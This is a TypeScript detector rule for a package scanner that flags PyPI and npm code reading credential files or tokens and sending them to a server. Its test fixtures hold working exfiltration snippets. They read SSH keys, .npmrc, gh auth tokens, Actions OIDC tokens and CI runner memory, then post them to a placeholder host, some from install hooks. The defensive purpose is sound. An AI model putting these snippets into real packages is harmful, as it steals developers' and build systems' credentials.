import { SECRETS } from "../behaviour/marks.ts";
import { flowsBetween } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { certainty } from "./_flow.ts";
import { codeWith, isLate, sight } from "./_sight.ts";

/** No service asks for these, whoever calls. */
const NOBODYS = /\.(?:bash|zsh)_history|\/etc\/shadow|\/proc\/self\/environ|runner\.worker/i;

export const sendsSecretFiles: Detector = {
  id: "sends-secret-files",
  title: "Reads a file with credentials and sends it to a server",
  severity: "critical",
  ecosystems: ["pypi", "npm"],
  points: 6,
  class: "threat",
  group: "exfiltration",
  why: `A path to SSH keys, cloud credentials, registry tokens, shell history or the address of a cloud's metadata service is used, a command that
prints a token, the request for a build job's identity or the process that holds its secrets, and what was read there reaches a request or a
socket. The worms of 2025 and 2026 spread with tokens taken this way.

Clients of clouds and registries read their own credentials to sign requests; that happens in a function somebody calls, concerns one
such file, and counts little.`,
  literals: SECRETS,
  *detect(tree) {
    for (const file of codeWith(tree, SECRETS)) {
      const flows = flowsBetween(file, ["secret-file"], ["upload", "http", "dns", "send"]);
      for (const flow of flows) {
        const { source, sink } = flow;
        const late = isLate(sink);
        const says = `${source.what} is read and reaches ${sink.what} ${sink.text.slice(0, 100)}`;
        yield sight(file, sink.offset, says.trimEnd(), {
          phase: sink.phase,
          share: (late ? (NOBODYS.test(source.what) ? 0.95 : 0.35) : 1) * certainty(file, flow),
        });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "setup.py":
            "import requests, os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://example.invalid', data=k)\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const fs = require('fs');\nconst t = fs.readFileSync(home + '/.npmrc', 'utf8');\nfetch('http://example.invalid/?t=' + t);\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py": "import requests\nhelp = 'keys are in ~/.ssh/id_rsa'\nrequests.get('http://example.invalid')\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js": "const fs = require('fs');\nconst t = fs.readFileSync('.npmrc');\nfetch('http://example.invalid');\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"postinstall":"node a.js"}}`,
          "a.js":
            "const t = require('child_process').execSync('gh auth token').toString();\nfetch('https://example.invalid/' + t);\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"preinstall":"node a.js"}}`,
          "a.js":
            "const r = await fetch(process.env.ACTIONS_ID_TOKEN_REQUEST_URL);\nawait fetch('https://example.invalid', { method: 'POST', body: await r.text() });\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { execSync } = require('child_process');\nconst pid = execSync('pgrep -f Runner.Worker');\nconst m = execSync(`sudo cat /proc/${pid}/mem | strings`);\nfetch('https://example.invalid', { method: 'POST', body: m });\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "setup.py":
            "import requests as r, base64\nfrom pathlib import Path\nk = base64.b64encode((Path.home() / '.ssh' / 'id_rsa').read_bytes())\nr.post('http://example.invalid', data=k)\n",
        },
      },
    ],
  },
};
